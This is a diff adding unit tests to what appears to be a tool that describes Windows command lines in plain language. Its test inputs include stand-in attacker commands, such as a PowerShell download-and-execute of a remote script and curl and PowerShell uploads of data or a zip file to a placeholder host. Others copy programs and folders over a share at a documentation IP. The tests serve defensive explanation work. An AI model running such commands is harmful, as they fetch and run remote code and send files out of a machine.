@@ -26,4 +26,62 @@ describe("a sentence", () => {
   it("takes the quote that closes the line of cmd.exe for no trick", () => {
     expect(text('cmd.exe /d /s /c "powershell -c "irm h.example/x.ps1|iex""')).not.toContain("quotes inside words");
   });
+
+  it.each([
+    ["cmd /c start C:\\Users\\Public\\x.vbs", /^cmd\.exe starts a program or opens a file: the script /],
+    ["cmd /c copy \\\\198.51.100.7\\s\\a.exe C:\\k\\a.exe", /^cmd\.exe copies or moves a file: the program /],
+  ])("says that the shell acts whose word it is: %s", (commandLine, says) => {
+    expect(text(commandLine)).toMatch(says);
+  });
+
+  it.each([
+    [
+      "curl.exe -d a=b https://h.example/in",
+      "curl.exe sends text to another machine: the address https://h.example/in",
+    ],
+    [
+      "curl.exe -X POST https://h.example/in",
+      "curl.exe sends text to another machine: the address https://h.example/in",
+    ],
+    [
+      "curl.exe -F k=v https://h.example/in",
+      "curl.exe sends text to another machine: the address https://h.example/in",
+    ],
+    [
+      'powershell -c "iwr https://h.example/in -Method Post -Body abc"',
+      "powershell.exe sends data to a web server: the address https://h.example/in",
+    ],
+    [
+      'powershell -c "irm https://h.example/in -Method Put -InFile C:\\k\\a.zip"',
+      "powershell.exe sends data to a web server: the file C:\\k\\a.zip",
+    ],
+  ])("tells a request that brings data as one that sends: %s", (commandLine, says) => {
+    expect(text(commandLine)).toContain(says);
+    expect(text(commandLine)).toContain("It sends to https://h.example/in on the web.");
+    expect(text(commandLine)).not.toMatch(/download|takes/);
+  });
+
+  it("still tells code that fetches as well as sends as a download", () => {
+    const both = "iwr https://h.example/in -Method Post -Body a; iwr https://h.example/k.txt -OutFile C:\\k\\k.txt";
+    expect(text(`powershell -c "${both}"`)).toMatch(/^powershell\.exe downloads files/);
+  });
+
+  it.each([
+    ["nslookup -q=txt kit.example.net", /: the address kit\.example\.net\. It takes what kit\.example\.net answers/],
+    ["robocopy C:\\Users\\Public \\\\198.51.100.7\\s", /copies a folder: the folder C:\\Users\\Public/],
+    ["wab.exe", /names for contacts: the registry entry HKLM/],
+    ["hh.exe C:\\Users\\Public\\x.chm", /It opens the file C:\\Users\\Public\\x\.chm from a folder/],
+    ["regsvr32 C:\\Users\\Public\\x.dll", /It loads the library C:\\Users\\Public\\x\.dll from a folder/],
+  ])("calls what it names by what it is: %s", (commandLine, says) => {
+    expect(text(commandLine)).toMatch(says);
+  });
+
+  it("tells a help file that is unpacked as read, and runs nothing", () => {
+    const { explanation } = explain(
+      { commandLine: "hh.exe -decompile C:\\Temp\\out C:\\Temp\\k.chm", platform: "windows" },
+      builtinCatalog(),
+    );
+    expect(explanation.verdict.text).toMatch(/a compiled help file: the file C:\\Temp\\k\.chm\.$/);
+    expect(explanation.invocations[0]?.behaviours[0]?.runs).toEqual([]);
+  });
 });
